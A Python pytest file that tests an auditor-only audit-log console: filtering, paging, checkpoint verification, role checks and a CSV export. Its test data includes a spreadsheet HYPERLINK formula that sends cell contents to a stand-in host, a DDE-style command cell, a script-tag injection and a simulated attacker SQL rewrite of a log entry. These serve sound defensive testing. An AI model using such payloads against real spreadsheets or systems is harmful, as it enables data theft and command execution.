"""The auditor's audit browser: the log by name, filtered in SQL and paged; checkpoint and verification
status; a CSV export that is logged and safe to open in a spreadsheet. Auditors only."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import Any

import markupsafe
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from api.console import audit_log, render
from api.core.audit import record_events
from api.core.models import AccessLog, User, utcnow
from evidence import display
from evidence.audit_actions import Action
from tests.api.test_audit_log import attacker_sql
from tests.conftest import World, bearer
from tests.console.support import Login, browser, csrf_of, page_csrf, services_of, signed_in
from tests.support.retention_support import upload

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open the case file")'
_CELL = re.compile(r'<td class="(seq|actor|action|target|outcome|purpose)">(.*?)</td>')


def _rows(html: str) -> list[dict[str, str]]:
    """The entries table as {column: shown text}, newest first."""
    rows: list[dict[str, str]] = []
    for column, value in _CELL.findall(html.split('id="entries"')[1].split("</table>")[0]):
        if column == "seq":
            rows.append({})
        rows[-1][column] = value
    return rows


def _user_id(app: FastAPI, name: str) -> str:
    with services_of(app).sessions() as session:
        found = session.scalar(select(User.id).where(User.name == name))
    assert found is not None
    return found


def _entries(app: FastAPI, action: Action) -> list[AccessLog]:
    with services_of(app).sessions() as session:
        return list(session.scalars(select(AccessLog).where(AccessLog.action == action).order_by(AccessLog.seq)))


def _head(app: FastAPI) -> int:
    with services_of(app).sessions() as session:
        return session.scalar(select(func.max(AccessLog.seq))) or 0


def _hold(client: TestClient, world: World, rid: str, reason: str, case_ref: str = "C-7") -> None:
    body = {"case_ref": case_ref, "reason": reason, "recordings": [rid]}
    reply = client.post("/v1/holds", json=body, headers=bearer(world.officer))
    assert reply.status_code == 201, reply.text


def _filler(app: FastAPI, count: int) -> None:
    """`count` newer entries by the system, none of them denied (what a busy day adds)."""
    events = [{"actor": "system", "action": Action.RETENTION_RUN, "detail": {"n": i}} for i in range(count)]
    with services_of(app).sessions() as session, session.begin():
        record_events(session, events)


def test_the_auditor_sees_who_by_name_never_a_bare_id(
    client: TestClient, app: FastAPI, world: World, logins: dict[str, Login]
) -> None:
    rid = upload(client, world.device)  # the device's entries: device:<id>
    _hold(client, world, rid, "litigation notice received")  # the officer's: user:<id>
    auditor = signed_in(app, logins["auditor"])
    home = auditor.get("/console").text
    assert 'id="to-audit"' in home and 'id="to-audit-log"' in home  # the nav link, and the home page's
    page = auditor.get("/console/audit")
    assert page.status_code == 200
    rows = _rows(page.text)
    actors = {r["actor"] for r in rows}
    assert {"olivia", "counter-n1", "audrey"} <= actors
    olivia, device = _user_id(app, "olivia"), world.device.id
    assert not [a for a in actors if olivia in a or device in a]  # named, not user:<uuid> / device:<uuid>
    hold = next(r for r in rows if r["action"] == Action.HOLD_CREATE)
    assert hold["actor"] == "olivia" and hold["purpose"] == "litigation notice received"
    assert [int(r["seq"]) for r in rows] == sorted((int(r["seq"]) for r in rows), reverse=True)  # newest first
    read = _entries(app, Action.AUDIT_READ)[-1]  # the page's read is logged, as the API's GET /v1/audit is
    assert read.actor == f"user:{_user_id(app, 'audrey')}" and read.detail["via"] == "console"
    assert read.detail["rows"] == len(rows)


def test_each_filter_narrows_the_log_in_sql(
    client: TestClient, app: FastAPI, world: World, logins: dict[str, Login]
) -> None:
    rid = upload(client, world.device)
    _hold(client, world, rid, "litigation notice received")
    assert client.get("/v1/audit", headers=bearer(world.officer)).status_code == 403  # a denied entry by olivia
    denied_seq = _head(app)
    _filler(app, audit_log.PAGE + 20)  # more than a page of newer entries that match none of the filters below
    auditor = signed_in(app, logins["auditor"])

    def shown(**query: str) -> list[dict[str, str]]:
        reply = auditor.get("/console/audit", params=query)
        assert reply.status_code == 200, reply.text
        return _rows(reply.text)

    everything = shown()
    assert len(everything) == audit_log.PAGE  # a full page of the newest, all filler and reads
    # Found past more than a page of newer entries: the filter is the query's, not a pass over one page.
    by_olivia = shown(actor="OLIV")
    assert by_olivia and {r["actor"] for r in by_olivia} == {"olivia"}
    assert {r["action"] for r in by_olivia} >= {Action.HOLD_CREATE, Action.ACCESS_DENIED}
    denied = shown(outcome="denied")
    assert [int(r["seq"]) for r in denied] == [denied_seq] and denied[0]["outcome"] == "denied"
    holds = shown(action=Action.HOLD_CREATE)
    assert len(holds) == 1 and holds[0]["action"] == Action.HOLD_CREATE
    by_device = shown(actor="counter-n1")
    assert by_device and {r["actor"] for r in by_device} == {"counter-n1"}
    on_recording = shown(target=rid)
    assert on_recording and all(rid in r["target"] for r in on_recording)
    assert {r["action"] for r in on_recording} >= {Action.RECORDING_CREATE, Action.SEGMENT_UPLOAD}
    assert shown(target="50%_off") == []  # LIKE's wildcards are matched literally
    assert len(shown(actor="olivia", action=Action.HOLD_CREATE)) == 1  # filters combine
    today = display.local(utcnow(), render.ZONE)[:10]
    tomorrow = display.local(utcnow() + timedelta(days=1), render.ZONE)[:10]
    assert len(shown(**{"from": today, "to": today, "outcome": "denied"})) == 1
    assert shown(**{"from": tomorrow}) == []
    assert shown(**{"to": "2020-01-01"}) == []


def test_paging_walks_back_through_the_log_with_the_filters_kept(
    client: TestClient, app: FastAPI, world: World, logins: dict[str, Login]
) -> None:
    _filler(app, audit_log.PAGE + 30)
    auditor = signed_in(app, logins["auditor"])
    first = auditor.get("/console/audit", params={"actor": "system"}).text
    newest = [int(r["seq"]) for r in _rows(first)]
    assert len(newest) == audit_log.PAGE
    older = re.search(r'href="/console/audit\?([^"]+)" id="older"', first)
    assert older is not None
    link = str(markupsafe.Markup(older.group(1)).unescape())
    assert "actor=system" in link and f"before={newest[-1]}" in link
    second = auditor.get(f"/console/audit?{link}").text
    rest = [int(r["seq"]) for r in _rows(second)]
    assert rest and max(rest) == newest[-1] - 1 and set(rest).isdisjoint(newest)  # the next ones, no overlap
    assert 'id="older"' not in second and 'id="newest"' in second  # the oldest page; a way back
    system_entries = len(newest) + len(rest)
    with services_of(app).sessions() as session:
        assert system_entries == session.scalar(select(func.count()).where(AccessLog.actor == "system"))


def test_the_export_is_csv_with_names_neutralised_formulas_and_its_own_log_entry(
    client: TestClient, app: FastAPI, world: World, logins: dict[str, Login]
) -> None:
    rid = upload(client, world.device)
    _hold(client, world, rid, FORMULA, case_ref="@SUM(A1:A9)")  # text an officer typed, reaching the auditor
    auditor = signed_in(app, logins["auditor"])
    reply = auditor.get("/console/audit/export")
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"].startswith("text/csv")
    assert reply.headers["content-disposition"].startswith('attachment; filename="countersign-audit-')
    table = list(csv.reader(io.StringIO(reply.text)))
    assert tuple(table[0]) == audit_log.CSV_COLUMNS
    rows = [dict(zip(table[0], r, strict=True)) for r in table[1:]]
    hold = next(r for r in rows if r["action"] == Action.HOLD_CREATE)
    assert hold["actor_name"] == "olivia" and hold["actor"] == f"user:{_user_id(app, 'olivia')}"
    assert hold["purpose"] == "'" + FORMULA  # shown as text by a spreadsheet, not run
    assert '"case": "@SUM(A1:A9)"' in hold["detail"]  # inside the JSON, not at a cell's start: harmless
    assert not [c for r in table for c in r if c[:1] in ("=", "+", "-", "@")]
    assert any(r["actor_name"] == "counter-n1" for r in rows)
    assert [int(r["seq"]) for r in rows] == sorted(int(r["seq"]) for r in rows)  # oldest first
    (logged,) = _entries(app, Action.CONSOLE_AUDIT_EXPORT)  # logged, and the rows are those before it
    assert logged.actor == f"user:{_user_id(app, 'audrey')}" and logged.detail == {"via": "console", "format": "csv"}
    assert int(rows[-1]["seq"]) == logged.seq - 1 and int(reply.headers["x-countersign-access-log"]) == logged.seq
    narrowed = auditor.get("/console/audit/export", params={"action": Action.HOLD_CREATE, "actor": "olivia"})
    lines = list(csv.reader(io.StringIO(narrowed.text)))
    assert len(lines) == 2 and lines[1][5] == Action.HOLD_CREATE  # the page's filters, the same SQL
    second = _entries(app, Action.CONSOLE_AUDIT_EXPORT)[-1]
    assert second.detail == {"via": "console", "format": "csv", "action": "api:hold:create", "actor": "olivia"}


def test_cells_a_spreadsheet_would_run_are_quoted() -> None:
    for formula in ("=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"):
        assert audit_log._cell(formula) == "'" + formula
    assert audit_log._cell("user:abc") == "user:abc" and audit_log._cell(None) == "" and audit_log._cell(12) == "12"


def test_status_shows_checkpoints_and_verify_now_checks_the_whole_log(
    client: TestClient, app: FastAPI, world: World, logins: dict[str, Login]
) -> None:
    upload(client, world.device)
    auditor = signed_in(app, logins["auditor"])
    page = auditor.get("/console/audit").text
    assert 'id="head-seq"' in page and 'action="/console/audit/verify"' in page
    verified = auditor.post("/console/audit/verify", data={"csrf": csrf_of(page)})
    assert verified.status_code == 200, verified.text
    (export,) = _entries(app, Action.AUDIT_EXPORT)  # the API's export, by the auditor
    assert export.actor == f"user:{_user_id(app, 'audrey')}"
    words = re.search(r'<p id="verified" class="ok">Verified up to seq (\d+):', verified.text)
    assert words is not None and int(words.group(1)) == export.seq  # all of it, through the export's own entry
    assert 'id="checkpoints"' in verified.text and f"<td>{export.seq}</td>" in verified.text  # signed by the export
    # Someone with a database shell rewrites a signed entry: the same check now says where and what.
    attacker_sql(client, "UPDATE access_log SET purpose = 'routine check' WHERE seq = 3")
    again = auditor.post("/console/audit/verify", data={"csrf": csrf_of(page)})
    assert again.status_code == 200
    assert '<p id="verified" class="error">FAILED after 2 good entries' in again.text
    assert "entry seq 3" in again.text and "content altered" in again.text


def test_verify_now_needs_the_form_token(app: FastAPI, world: World, logins: dict[str, Login]) -> None:
    auditor = signed_in(app, logins["auditor"])
    assert auditor.post("/console/audit/verify", data={}).status_code == 403
    assert auditor.post("/console/audit/verify", data={"csrf": "forged"}).status_code == 403
    assert _entries(app, Action.AUDIT_EXPORT) == []  # refused before anything was exported


def test_only_auditors_open_the_audit_pages(app: FastAPI, world: World, logins: dict[str, Login]) -> None:
    anonymous = browser(app)
    for path in ("/console/audit", "/console/audit/export"):
        reply = anonymous.get(path)
        assert reply.status_code == 303 and reply.headers["location"] == "/console/sign-in"
    assert anonymous.post("/console/audit/verify", data={}).status_code == 303
    for role in ("officer", "admin"):
        other = signed_in(app, logins[role])
        csrf = page_csrf(other)
        for path in ("/console/audit", "/console/audit/export"):
            reply = other.get(path)
            assert reply.status_code == 403 and "This page is for auditors" in reply.text
            assert "text/csv" not in reply.headers["content-type"]
        assert other.post("/console/audit/verify", data={"csrf": csrf}).status_code == 403
        assert 'href="/console/audit"' not in other.get("/console").text  # no nav link for them
    assert _entries(app, Action.CONSOLE_AUDIT_EXPORT) == [] and _entries(app, Action.AUDIT_EXPORT) == []
    denied = [e for e in _entries(app, Action.ACCESS_DENIED) if e.actor != "anonymous"]
    assert len(denied) == 6  # each refusal logged, as the API's are


def test_a_script_in_a_logged_value_shows_as_text(
    client: TestClient, app: FastAPI, world: World, logins: dict[str, Login]
) -> None:
    rid = upload(client, world.device)
    _hold(client, world, rid, f"{SCRIPT} legal matter", case_ref=SCRIPT)
    auditor = signed_in(app, logins["auditor"])
    page = auditor.get("/console/audit", params={"action": Action.HOLD_CREATE}).text
    assert SCRIPT not in page
    assert f'<td class="purpose">{markupsafe.escape(SCRIPT)} legal matter</td>' in page
    assert '<td class="detail"><code>{&#34;case&#34;:&#34;&lt;script&gt;' in page  # the detail's JSON, as text
    searched = auditor.get("/console/audit", params={"target": SCRIPT, "actor": SCRIPT}).text
    assert SCRIPT not in searched and f'value="{markupsafe.escape(SCRIPT)}"' in searched  # typed back, as text


def test_bad_filters_get_a_422_page(app: FastAPI, world: World, logins: dict[str, Login]) -> None:
    auditor = signed_in(app, logins["auditor"])
    bad = [
        {"from": "yesterday"},
        {"to": "2026-02-30"},
        {"from": "2026-04-02", "to": "2026-04-01"},
        {"action": "api:nothing:here"},
        {"outcome": "maybe"},
        {"before": "ten"},
        {"before": "0"},
        {"before": str(2**70)},
        {"actor": "olivia\x00"},
        {"target": "x" * 201},
    ]
    for query in bad:
        for path in ("/console/audit", "/console/audit/export"):
            reply = auditor.get(path, params=query)
            assert reply.status_code == 422, (path, query, reply.status_code)
            assert "text/html" in reply.headers["content-type"] and "<h1>422</h1>" in reply.text
    assert _entries(app, Action.CONSOLE_AUDIT_EXPORT) == []  # a refused export is not logged as one


def test_what_cannot_be_logged_is_not_shown_nor_exported(
    app: FastAPI, world: World, logins: dict[str, Login], monkeypatch: pytest.MonkeyPatch
) -> None:
    auditor = signed_in(app, logins["auditor"])

    def broken_log(*_args: Any, **_kwargs: Any) -> int:
        raise RuntimeError("log unavailable")

    monkeypatch.setattr(audit_log, "record_committed", broken_log)
    for path in ("/console/audit", "/console/audit/export"):
        reply = auditor.get(path)
        assert reply.status_code == 503 and "cannot be written" in reply.text
        assert 'id="entries"' not in reply.text and "seq,at_utc" not in reply.text


def test_a_long_detail_is_cut_on_the_page_only(
    client: TestClient, app: FastAPI, world: World, logins: dict[str, Login]
) -> None:
    events = [{"actor": "system", "action": Action.RETENTION_RUN, "detail": {"ids": ["x" * 40] * 50}}]
    with services_of(app).sessions() as session, session.begin():
        record_events(session, events)
    auditor = signed_in(app, logins["auditor"])
    page = auditor.get("/console/audit", params={"action": Action.RETENTION_RUN}).text
    assert "(cut; the CSV export has it all)" in page and page.count("x" * 40) < 50
    exported = auditor.get("/console/audit/export", params={"action": Action.RETENTION_RUN}).text
    assert exported.count("x" * 40) == 50
